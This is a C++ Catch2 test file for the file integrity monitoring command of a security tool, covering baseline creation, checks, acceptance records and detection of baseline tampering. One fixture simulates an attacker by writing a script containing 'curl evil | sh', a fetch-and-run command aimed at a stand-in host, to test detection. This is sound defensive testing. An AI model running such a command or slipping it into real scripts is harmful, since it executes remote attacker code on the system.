// SPDX-License-Identifier: Apache-2.0
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <sys/stat.h>

#include "phantomguard/actors/fim/baseline_db.hpp"
#include "phantomguard/actors/fim/fim_command.hpp"
#include "phantomguard/actors/fim/register.hpp"
#include "phantomguard/actors/storage/sqlite_handle.hpp"
#include "temp_tree.hpp"

using namespace pg::actors::fim;

namespace {

struct result {
  int code;
  std::string out;
  std::string err;
};

result run(std::vector<std::string> args) {
  args.insert(args.begin(), "phantomguard fim");
  std::vector<char*> argv;
  for (auto& a : args)
    argv.push_back(a.data());
  std::ostringstream out, err;
  int code = run_fim_command(static_cast<int>(argv.size()), argv.data(), out, err);
  return {code, out.str(), err.str()};
}

} // namespace

SCENARIO("fim init then check, as a command") {
  pg::test::temp_tree tree;
  tree.write("tree/bin/tool", "#!/bin/sh\necho hi\n");
  tree.write("tree/conf", "x=1\n");
  std::string db = tree.path("base.db");

  auto r = run({"init", "--db", db, tree.path("tree")});
  REQUIRE(r.code == 0);
  CHECK(r.err.find("baseline of 4 entries") != std::string::npos);

  r = run({"check", "--db", db, "--format", "jsonl", tree.path("tree")});
  CHECK(r.code == 0);
  CHECK(r.out.empty());

  WHEN("a file is made setuid and another is added") {
    REQUIRE(::chmod(tree.path("tree/bin/tool").c_str(), 04755) == 0);
    tree.write("tree/bin/dropper", "payload");
    r = run({"check", "--db", db, "--format", "json", tree.path("tree")});
    THEN("exit code 1 and both findings in JSON") {
      CHECK(r.code == 1); // fim.changed is high
      auto j = nlohmann::json::parse(r.out);
      REQUIRE(j.size() == 2);
      std::set<std::string> rules;
      for (const auto& f : j) {
        rules.insert(f["rule"].get<std::string>());
        CHECK(f["analyzer"] == "fim");
      }
      CHECK(rules == std::set<std::string>{"fim.added", "fim.changed"});
    }
    THEN("--fail-on critical keeps the exit code at 0") {
      r = run({"check", "--db", db, "--fail-on", "critical", tree.path("tree")});
      CHECK(r.code == 0);
      CHECK(r.out.find("fim.changed") != std::string::npos); // table output
    }
    THEN("a check reports them again: nothing is accepted by looking") {
      CHECK(run({"check", "--db", db, tree.path("tree")}).code == 1);
      CHECK(run({"check", "--db", db, tree.path("tree")}).code == 1);
    }
    THEN("--update accepts what it reports so the next check is clean") {
      auto u = run({"check", "--update", "--db", db, tree.path("tree")});
      CHECK(u.code == 0);
      CHECK(u.out.find("accepted fim.added " + tree.path("tree/bin/dropper")) != std::string::npos);
      CHECK(run({"check", "--db", db, tree.path("tree")}).code == 0);
    }
  }
}

SCENARIO("fim uses the rules of a config file") {
  pg::test::temp_tree tree;
  tree.write("etc/app.conf", "a");
  tree.write("etc/app.conf.swp", "b");
  tree.write("cfg.toml", "[analyzers.integrity]\ntype = \"fim\"\ninterval = \"1h\"\n"
                         "rules = [{ path = \"" +
                             tree.path("etc") +
                             "\", exclude = [\"*.swp\"], attributes = \"CONTENT\" }]\n");
  std::string db = tree.path("cfg.db");
  REQUIRE(run({"init", "--config", tree.path("cfg.toml"), "--db", db}).code == 0);
  tree.write("etc/app.conf.swp", "changed but excluded");
  REQUIRE(::chmod(tree.path("etc/app.conf").c_str(), 0600) == 0); // perms not watched
  auto r = run({"check", "--config", tree.path("cfg.toml"), "--db", db, "--format", "jsonl"});
  CHECK(r.code == 0);
  CHECK(r.out.empty());
  tree.write("etc/app.conf", "b");
  r = run({"check", "--config", tree.path("cfg.toml"), "--db", db, "--format", "jsonl"});
  CHECK(r.code == 1);
  auto f = nlohmann::json::parse(r.out);
  CHECK(f["rule"] == "fim.changed");
  CHECK(f["evidence"]["changed"] == nlohmann::json::array({"sha256"}));
}

SCENARIO("database and usage errors exit with 2 and say why") {
  pg::test::temp_tree tree;
  tree.write("tree/f", "x");
  GIVEN("a corrupt database") {
    tree.write("corrupt.db", std::string(4096, '\x7f'));
    auto r = run({"check", "--db", tree.path("corrupt.db"), tree.path("tree")});
    CHECK(r.code == 2);
    CHECK(r.err.find("corrupt.db") != std::string::npos);
    CHECK(r.err.find("not a database") != std::string::npos);
    r = run({"init", "--db", tree.path("corrupt.db"), tree.path("tree")});
    CHECK(r.code == 2);
  }
  GIVEN("a database that cannot be created") {
    auto r = run({"init", "--db", tree.path("tree/f/fim.db"), tree.path("tree")});
    CHECK(r.code == 2);
    CHECK(r.err.find("tree/f/fim.db") != std::string::npos);
    CHECK(r.err.find("unable to open") != std::string::npos);
  }
  GIVEN("a database whose write-ahead log cannot be written") {
    REQUIRE(run({"init", "--db", tree.path("ro.db"), tree.path("tree")}).code == 0);
    // Root ignores permission bits, so the unwritable case is made by putting a directory
    // where SQLite must create its WAL file.
    std::filesystem::remove(tree.path("ro.db-wal"));
    std::filesystem::remove(tree.path("ro.db-shm"));
    std::filesystem::create_directory(tree.path("ro.db-wal"));
    auto r = run({"check", "--update", "--db", tree.path("ro.db"), tree.path("tree")});
    CHECK(r.code == 2);
    CHECK(r.err.find("ro.db") != std::string::npos);
  }
  GIVEN("no baseline yet") {
    auto r = run({"check", "--db", tree.path("missing.db"), tree.path("tree")});
    CHECK(r.code == 2);
    CHECK(r.err.find("fim init") != std::string::npos);
  }
  GIVEN("an unknown action or option") {
    CHECK(run({"verify"}).code == 2);
    CHECK(run({"check", "--bogus"}).code == 2);
  }
  GIVEN("a config with a bad rule") {
    tree.write("bad.toml", "rules = [{ path = \"/etc\", attributes = \"NORMAL+md5\" }]\n");
    auto r = run({"check", "--config", tree.path("bad.toml"), "--db", tree.path("x.db")});
    CHECK(r.code == 2);
    CHECK(r.err.find("md5") != std::string::npos);
  }
}

SCENARIO("the family registers the fim analyzer type and command") {
  pg::runtime::registry reg;
  register_components(reg);
  const auto* t = reg.find(pg::runtime::component_kind::analyzer, "fim");
  REQUIRE(t);
  std::set<std::string> keys;
  for (const auto& o : t->options)
    keys.insert(o.key);
  for (const char* k : {"rules", "workers", "segment_size", "max_memory", "realtime", "rehash"})
    CHECK(keys.count(k) == 1);
  CHECK(keys.count("io_class") == 0); // the engine's key, for every component
  CHECK(t->throttle_defaults.nice == 10);
  CHECK(t->throttle_defaults.io_class == "idle");
  CHECK(reg.find_command("fim"));
}

SCENARIO("fim accept records who accepted which change and when, and re-seals the baseline") {
  pg::test::temp_tree tree;
  tree.write("tree/conf", "x=1\n");
  tree.write("tree/other", "y=1\n");
  std::string db = tree.path("base.db");
  auto init = run({"init", "--db", db, tree.path("tree")});
  REQUIRE(init.code == 0);
  CHECK(init.err.find("baseline seal sha256:") != std::string::npos);
  tree.write("tree/conf", "x=2\n");
  tree.write("tree/other", "y=2\n");
  // Only the path named is accepted; the other change is still reported.
  auto a = run({"accept", "--db", db, "--by", "alice", tree.path("tree/conf")});
  CHECK(a.code == 0);
  CHECK(a.out == "accepted fim.changed " + tree.path("tree/conf") + "\n");
  auto c = run({"check", "--db", db, "--format", "jsonl", tree.path("tree")});
  CHECK(c.code == 1);
  CHECK(c.out.find(tree.path("tree/other")) != std::string::npos);
  CHECK(c.out.find(tree.path("tree/conf") + "\"") == std::string::npos);
  {
    baseline_db b(db, false);
    auto acc = b.acceptances(tree.path("tree/conf"));
    REQUIRE(acc.size() == 1);
    CHECK(acc[0].by == "alice");
    CHECK(acc[0].change == "fim.changed");
    CHECK(acc[0].at.size() == 24); // RFC 3339 with milliseconds
  }
  CHECK(c.out.find("fim.baseline_tampered") == std::string::npos); // accept re-sealed it
}

SCENARIO("a baseline edited behind the engine's back is fim.baseline_tampered") {
  pg::test::temp_tree tree;
  tree.write("tree/bin/tool", "#!/bin/sh\n");
  std::string db = tree.path("base.db");
  auto init = run({"init", "--db", db, tree.path("tree")});
  REQUIRE(init.code == 0);
  auto at = init.err.find("sha256:");
  REQUIRE(at != std::string::npos);
  std::string seal = init.err.substr(at, 7 + 64);
  // The attacker replaces the tool and writes its hash into the baseline, so a plain comparison
  // would see nothing.
  tree.write("tree/bin/tool", "#!/bin/sh\ncurl evil | sh\n");
  {
    pg::actors::storage::database raw(db, false);
    raw.exec("UPDATE entries SET sha256 = 'f00d', size = 26 WHERE path LIKE '%/tool'");
  }
  auto c = run({"check", "--db", db, "--format", "jsonl", tree.path("tree")});
  CHECK(c.code == 1);
  CHECK(c.out.find("\"rule\":\"fim.baseline_tampered\"") != std::string::npos);
  // The operator's own copy of the seal says the same, even if the seal file were rewritten.
  std::filesystem::remove(db + ".seal");
  auto s = run({"check", "--db", db, "--seal", seal, "--format", "jsonl", tree.path("tree")});
  CHECK(s.code == 1);
  CHECK(s.out.find("fim.baseline_tampered") != std::string::npos);
  // A damaged seal is not "no seal".
  std::ofstream(db + ".seal") << "garbage\n";
  auto d = run({"check", "--db", db, "--format", "jsonl", tree.path("tree")});
  CHECK(d.out.find("seal is damaged") != std::string::npos);
}
